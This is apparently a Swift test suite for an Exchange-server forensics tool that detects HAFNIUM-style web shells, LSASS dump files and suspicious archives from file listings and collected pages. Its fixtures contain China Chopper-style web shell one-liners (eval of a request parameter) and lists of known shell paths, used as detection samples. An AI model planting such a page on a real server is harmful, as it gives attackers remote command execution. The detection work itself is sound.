@testable import ExchangeDetection
import ExchangeEvidence
import Foundation
import Testing

/// File rules on a `Get-ChildItem | Export-Csv` listing and collected web files (MSTIC/Volexity paths, the
/// OTRF compiled-page names, HelseCERT's shell name, a McAfee update cache as the archive near miss).
@Suite struct FileRuleTests {
    let store: EventStore
    init() throws { store = try RuleFixtures.store("files") }

    @Test func webShellFilesFireAndStandardPagesDoNot() {
        let f = RuleFixtures.run("webshell.file", on: store)
        let all = f.map(\.summary).joined(separator: "\n")
        // Both shells' paths are published (MSTIC), so they are known shells, not likely ones.
        #expect(f.filter { $0.severity == .critical }.count == 2)
        #expect(all.contains("C:\\inetpub\\wwwroot\\aspnet_client\\supp0rt.aspx: script page under \\aspnet_client\\, which a standard install does not have; a published web shell (path in indicator set mstic-feed)"))
        #expect(all.contains("owa\\auth\\RedirSuiteServerProxy.aspx: 'RedirSuiteServerProxy.aspx' is not a standard page of owa\\auth\\; a published web shell ("))
        #expect(all.contains("also collected as a file"))
        // The listing's culture-form times (`3/3/2021 6:59:26 AM`) as UTC times, which output shows in its zone.
        #expect(all.contains("(created 2021-03-03 06:59:26, written 2021-03-03 06:59:26, 2383 bytes)"), "\(all)")
        #expect(!all.contains("logon.aspx:"))
        #expect(!all.contains("RedirSuiteServiceProxy"))
        #expect(!all.contains("TimeoutLogoff"))
        let compiled = f.first { $0.title == "Compiled copy of a non-standard page" }
        #expect(compiled?.severity == .medium)
        #expect(compiled?.summary.contains("redirsuiteserverproxy.aspx.f5dba9b9.compiled") == true)
        #expect(compiled?.summary.hasSuffix("; 1 App_Web_*.dll beside it") == true)
        #expect(compiled?.events.count == 2)
        // Assemblies elsewhere are only listed, at info.
        let assemblies = f.first { $0.severity == .info }
        #expect(assemblies?.events.count == 1)
        #expect(assemblies?.summary.hasPrefix("1 App_Web_*.dll in Temporary ASP.NET Files; newest C:\\Windows\\Microsoft.NET") == true)
    }

    @Test func webShellContentFindsChopperAndTheOABConfigButNotLogonPage() {
        let f = RuleFixtures.run("webshell.content", on: store)
        #expect(f.count == 2)
        #expect(f.allSatisfy { $0.severity == .critical })
        #expect(f.contains { $0.summary.hasPrefix("/owa/auth/RedirSuiteServerProxy.aspx: China Chopper pattern 'eval(Request[\"klk123456\"],\"unsafe\")") })
        #expect(f.contains { $0.summary.hasPrefix("/aspnet_client/supp0rt.aspx:") })
        #expect(!f.contains { $0.summary.contains("logon.aspx") })
        // The quote ends with the script's line, not with the OAB properties after it (reviewer).
        let oab = "Name : OAB\r\nExternalUrl : http://f/<script language=\"JScript\" runat=\"server\">function Page_Load(){eval(Request[\"k\"],\"unsafe\");}</script>\r\nInternalUrl : https://ex01/OAB"
        #expect(WebShellContentRule.excerpt(oab, at: oab.range(of: "eval(")!.lowerBound) == "eval(Request[\"k\"],\"unsafe\");}</script>")
        #expect(WebShellContentRule.excerpt(oab, at: oab.range(of: "<script")!.lowerBound).hasSuffix("\"unsafe\");}</script>"))
        let page = #"<%@ Page Language="Jscript"%><%eval(Request.Item["pass"],"unsafe");%><html><body><img src=x onerror=alert(1)>"#
        #expect(WebShellContentRule.excerpt(page, at: page.range(of: "eval(")!.lowerBound) == #"eval(Request.Item["pass"],"unsafe");%>"#)
    }

    /// The collected copy has no time; the listing row of the same path gives it (its LastWriteTimeUtc), and
    /// the finding rests on both events.
    @Test func webShellContentTakesItsTimeFromTheListingRow() throws {
        let f = RuleFixtures.run("webshell.content", on: store)
        let shell = try #require(f.first { $0.summary.hasPrefix("/aspnet_client/supp0rt.aspx:") })
        #expect(shell.time == Timestamp.parse("2021-03-03T06:59:26Z"))
        #expect(shell.events.count == 2 && shell.file == "EX01/inetpub/wwwroot/aspnet_client/supp0rt.aspx")
        #expect(shell.summary.contains("; time from the file listing (created 2021-03-03 06:59:26, written 2021-03-03 06:59:26"))
        let oab = try #require(f.first { $0.summary.hasPrefix("/owa/auth/RedirSuiteServerProxy.aspx:") })
        #expect(oab.time == Timestamp.parse("2021-03-03T07:01:13Z"))
    }

    /// Without a listing row the copy's modification time is used when it can be the server's (not after
    /// its newest logged event); a copy stamped at collection time, or with no logs to judge by, stays unknown.
    @Test func webShellContentWithoutListingUsesAPlausibleModificationTime() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-webfile-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        func page(_ server: String, modified: String) throws {
            let folder = dir.appendingPathComponent("\(server)/inetpub/wwwroot/aspnet_client")
            try FileManager.default.createDirectory(at: folder, withIntermediateDirectories: true)
            let url = folder.appendingPathComponent("x.aspx")
            try #"<%@ Page Language="Jscript"%><%eval(Request.Item["p"],"unsafe");%>"#.write(to: url, atomically: true, encoding: .utf8)
            let t = Double(Timestamp.parse(modified)!) / 1000
            try FileManager.default.setAttributes([.modificationDate: Date(timeIntervalSince1970: t)], ofItemAtPath: url.path)
        }
        try page("EX07", modified: "2021-03-03T07:00:00Z")      // kept by the collection
        try page("EX08", modified: "2026-01-10T09:00:00Z")      // reset to the collection time
        try page("EX09", modified: "2021-03-03T07:00:00Z")      // no logs to judge by
        for server in ["EX07", "EX08"] {
            let logs = dir.appendingPathComponent("\(server)/inetpub/logs/LogFiles/W3SVC1")
            try FileManager.default.createDirectory(at: logs, withIntermediateDirectories: true)
            try ["#Software: Microsoft Internet Information Services 10.0", "#Version: 1.0", "#Date: 2021-03-05 03:06:27",
                 "#Fields: date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
                 "2021-03-05 03:06:27 10.0.0.5 GET /owa/ - 443 - 10.0.0.9 Mozilla/5.0 - 200 0 0 15", ""]
                .joined(separator: "\r\n").write(to: logs.appendingPathComponent("u_ex210305.log"), atomically: true, encoding: .utf8)
        }
        let s = EventStore()
        _ = try EvidenceLoader(workers: 1).load(dir.path, into: s)
        let f = RuleFixtures.run("webshell.content", on: s)
        let by = Dictionary(uniqueKeysWithValues: f.map { ($0.server, $0) })
        #expect(by["EX07"]?.time == Timestamp.parse("2021-03-03T07:00:00Z"))
        #expect(by["EX07"]?.summary.hasSuffix("; time: the collected copy's modification time (no listing row)") == true)
        #expect(by["EX08"]?.time == Timestamp.unknown)
        #expect(by["EX08"]?.summary.contains("time unknown: no listing row; the copy's modification time 2026-01-10 09:00:00 is after the newest event of EX08 (2021-03-05 03:06:27), so it is the collection's") == true)
        #expect(by["EX09"]?.time == Timestamp.unknown)
        #expect(by["EX09"]?.summary.contains("no dated logs of EX09") == true)
    }

    /// HAFNIUM's `FrontEnd\HttpProxy\OAB\log.aspx` and a page in `HttpProxy\ecp\` fire in a listing and as
    /// collected copies (whose URL, `/OAB/log.aspx`, says nothing of the folder): the content rule reads them too.
    /// Near misses: standard auth pages, a `web.config` there, pages under `Logging\HttpProxy\` and the back
    /// end's `ClientAccess\ecp\`.
    @Test func pagesInFrontEndHttpProxyProtocolFoldersFire() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-httpproxy-page-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        let v15 = #"C:\Program Files\Microsoft\Exchange Server\V15"#
        let rows = [#"FrontEnd\HttpProxy\OAB\log.aspx"#, #"FrontEnd\HttpProxy\ecp\x.aspx"#,
                    #"FrontEnd\HttpProxy\owa\auth\logon.aspx"#, #"FrontEnd\HttpProxy\ecp\auth\TimeoutLogoff.aspx"#,
                    #"FrontEnd\HttpProxy\OAB\web.config"#, #"Logging\HttpProxy\OAB\x.aspx"#, #"ClientAccess\ecp\default.aspx"#]
        let listing = [#"#TYPE Selected.System.IO.FileInfo"#, #""FullName","Length","CreationTimeUtc","LastWriteTimeUtc""#]
            + rows.map { #""\#(v15)\\#($0)","70","3/3/2021 7:01:13 AM","3/3/2021 7:01:13 AM""# }
        let shell = #"<%@ Page Language="Jscript"%><%eval(Request.Item["z"],"unsafe");%>"#
        var files = ["EX01/listings/files.csv": listing.joined(separator: "\r\n") + "\r\n"]
        for page in ["FrontEnd/HttpProxy/OAB/log.aspx", "FrontEnd/HttpProxy/ecp/x.aspx", "Logging/HttpProxy/OAB/x.aspx"] {
            files["EX02/C/Program Files/Microsoft/Exchange Server/V15/\(page)"] = shell
        }
        for (rel, text) in files {
            let url = dir.appendingPathComponent(rel)
            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try text.write(to: url, atomically: true, encoding: .utf8)
        }
        let s = EventStore()
        _ = try EvidenceLoader(workers: 1).load(dir.path, into: s)
        let f = RuleFixtures.run("webshell.file", on: s).map { "\($0.server) \($0.summary)" }.sorted()
        #expect(f == [
            #"EX01 C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\OAB\log.aspx: script page under FrontEnd\HttpProxy\OAB\, a proxy folder where HAFNIUM dropped shells; a published web shell (path in indicator set mstic-feed) (created 2021-03-03 07:01:13, written 2021-03-03 07:01:13, 70 bytes)"#,
            #"EX01 C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\x.aspx: script page under FrontEnd\HttpProxy\ecp\, a proxy folder where HAFNIUM dropped shells (created 2021-03-03 07:01:13, written 2021-03-03 07:01:13, 70 bytes)"#,
            "EX02 EX02/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/OAB/log.aspx: script page under FrontEnd\\HttpProxy\\OAB\\, a proxy folder where HAFNIUM dropped shells; a published web shell (path in indicator set mstic-feed)",
            "EX02 EX02/C/Program Files/Microsoft/Exchange Server/V15/FrontEnd/HttpProxy/ecp/x.aspx: script page under FrontEnd\\HttpProxy\\ecp\\, a proxy folder where HAFNIUM dropped shells",
        ])
        // OAB\log.aspx is a published path (critical); ecp\x.aspx is only a likely shell (high).
        #expect(RuleFixtures.run("webshell.file", on: s).map(\.severity).sorted() == [.high, .high, .critical, .critical])
        let content = RuleFixtures.run("webshell.content", on: s).map(\.summary).sorted()
        #expect(content.count == 3)
        #expect(content.first?.hasPrefix("/OAB/log.aspx: China Chopper pattern") == true)
    }

    /// In the front end's `ecp\auth` any file but TimeoutLogoff.aspx counts (Volexity, CISA AA21-062A), so the
    /// original kept aside by whoever replaced the page is found. Near misses: the page itself, a `.bak` in
    /// `owa\auth` (only pages count there) and in the back end's `ClientAccess\ecp\auth`, a collected copy's URL.
    @Test func anyFileButTheLogoffPageInECPAuthIsFound() {
        let auth = #"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\ecp\auth\"#
        #expect(WebShellPath.reason(file: auth + "TimeoutLogoff.aspx.bak") == "only TimeoutLogoff.aspx belongs in ecp\\auth\\ "
                + "('TimeoutLogoff.aspx.bak' looks like a page's original kept aside: compare the page with a clean server's)")
        #expect(WebShellPath.reason(file: auth + "notes.txt") == "only TimeoutLogoff.aspx belongs in ecp\\auth\\")
        #expect(WebShellPath.reason(file: auth + "TimeoutLogoff.aspx") == nil)
        #expect(WebShellPath.reason(file: #"D:\Exchange\V15\FrontEnd\HttpProxy\owa\auth\logon.aspx.bak"#) == nil)
        #expect(WebShellPath.reason(file: #"C:\Program Files\Microsoft\Exchange Server\V15\ClientAccess\ecp\auth\x.bak"#) == nil)
        #expect(WebShellPath.reason(file: "\\ecp\\auth\\TimeoutLogoff.aspx.bak") == nil)
    }

    /// Two listings of one machine name the same file twice: one finding, and no claim that a copy was collected.
    @Test func aFileInTwoListingsIsNotSaidToBeCollected() throws {
        let dir = FileManager.default.temporaryDirectory.appendingPathComponent("exhunt-two-listings-\(UUID().uuidString)")
        defer { try? FileManager.default.removeItem(at: dir) }
        let listing = #""FullName","Length","LastWriteTimeUtc"\#r\#n"C:\inetpub\wwwroot\aspnet_client\system_web\RzTs7Kp9.aspx","1200","3/3/2021 8:15:00 AM"\#r\#n"#
        for name in ["a.csv", "b-second-collection.csv"] {
            let url = dir.appendingPathComponent("EX50/\(name)")
            try FileManager.default.createDirectory(at: url.deletingLastPathComponent(), withIntermediateDirectories: true)
            try listing.write(to: url, atomically: true, encoding: .utf8)
        }
        let s = EventStore()
        _ = try EvidenceLoader(workers: 1).load(dir.path, into: s)
        let f = RuleFixtures.run("webshell.file", on: s)
        #expect(f.count == 1 && f.first?.events.count == 2)
        #expect(f.first?.severity == .high, "an unpublished name in a web-shell folder is a likely shell")
        #expect(f.first?.summary.contains("also collected") == false)
    }

    /// A published path matches as `grep-ioc` keys it, from `FrontEnd\HttpProxy\` on: Exchange installed on another
    /// drive or folder bears the same shell; a name only like it does not.
    @Test func publishedPathsMatchWhereverExchangeIsInstalled() {
        #expect(PublishedWebShells.indicator(for: #"D:\Exchange\V15\FrontEnd\HttpProxy\owa\auth\8Lw7tAhF9i1pJnRo.aspx"#) == "path in indicator set mstic-feed")
        #expect(PublishedWebShells.indicator(for: #"C:\Program Files\Microsoft\Exchange Server\V15\FrontEnd\HttpProxy\owa\auth\x8Lw7tAhF9i1pJnRo.aspx"#) == nil)
    }

    @Test func lsassDumpFile() {
        let f = RuleFixtures.run("files.lsass-dump", on: store)
        #expect(f.count == 1)
        #expect(f.first?.summary.hasPrefix("C:\\Windows\\Temp\\lsass.dmp: LSASS dump file") == true)
    }

    @Test func programDataArchivesVendorCacheIsLowAndOneFinding() {
        let f = RuleFixtures.run("files.programdata-archive", on: store)
        #expect(f.count == 3)
        #expect(f.first { $0.summary.contains("it.zip") }?.severity == .high)
        #expect(f.first { $0.summary.contains("data.rar") }?.severity == .medium)
        let vendor = f.first { $0.summary.contains("McAfee") }
        #expect(vendor?.severity == .low)
        #expect(vendor?.events.count == 2)
    }
}
